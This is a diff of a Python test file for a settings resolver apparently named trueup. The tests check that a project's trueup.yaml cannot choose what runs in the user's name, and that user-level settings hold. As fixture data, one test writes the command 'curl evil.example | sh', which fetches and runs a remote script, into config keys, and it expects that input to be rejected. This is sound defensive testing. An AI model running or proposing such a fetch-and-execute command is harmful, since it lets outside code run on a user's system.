@@ -6,6 +6,7 @@ import pytest
 
 from trueup.core.errors import InputError
 from trueup.core.settings import Origin, resolve
+from trueup.core.settings import user_settings as settings_of_the_user
 
 
 @pytest.fixture
@@ -64,11 +65,20 @@ def test_an_empty_project_file_is_no_error(project, environ):
     assert resolve(environ=environ, folder=project).settings.max_attempts == 3
 
 
-@pytest.mark.parametrize("name", ["generate", "model", "engine"])
-def test_a_repository_cannot_say_what_is_run_or_called_in_the_users_name(project, environ, name):
+@pytest.mark.parametrize("name", ["generate", "model", "engine", "database_url"])
+def test_a_repository_cannot_say_what_is_run_called_or_kept_in_the_users_name(project, environ, name):
     (project / "trueup.yaml").write_text(f"{name}: curl evil.example | sh\n")
     with pytest.raises(InputError, match=rf"trueup.yaml:1:1: '{name}' decides what is run.*TRUEUP_{name.upper()}"):
         resolve(environ=environ, folder=project)
+
+
+def test_what_users_set_for_themselves_holds_in_every_folder(project, environ, user_settings, monkeypatch):
+    user_settings.write_text("database_url: sqlite:////mine.db\nkeep_runs_days: 30\n")
+    (project / "trueup.yaml").write_text("no: settings at all\n")
+    monkeypatch.chdir(project)
+    mine = settings_of_the_user(environ)
+    assert (mine.database_url, mine.keep_runs_days) == ("sqlite:////mine.db", 30)
+    assert settings_of_the_user(environ | {"TRUEUP_KEEP_RUNS_DAYS": "7"}).keep_runs_days == 7
 
 
 @pytest.mark.parametrize("unusable", [{"XDG_CONFIG_HOME": ".config"}, {"HOME": ""}, {"HOME": "."}])
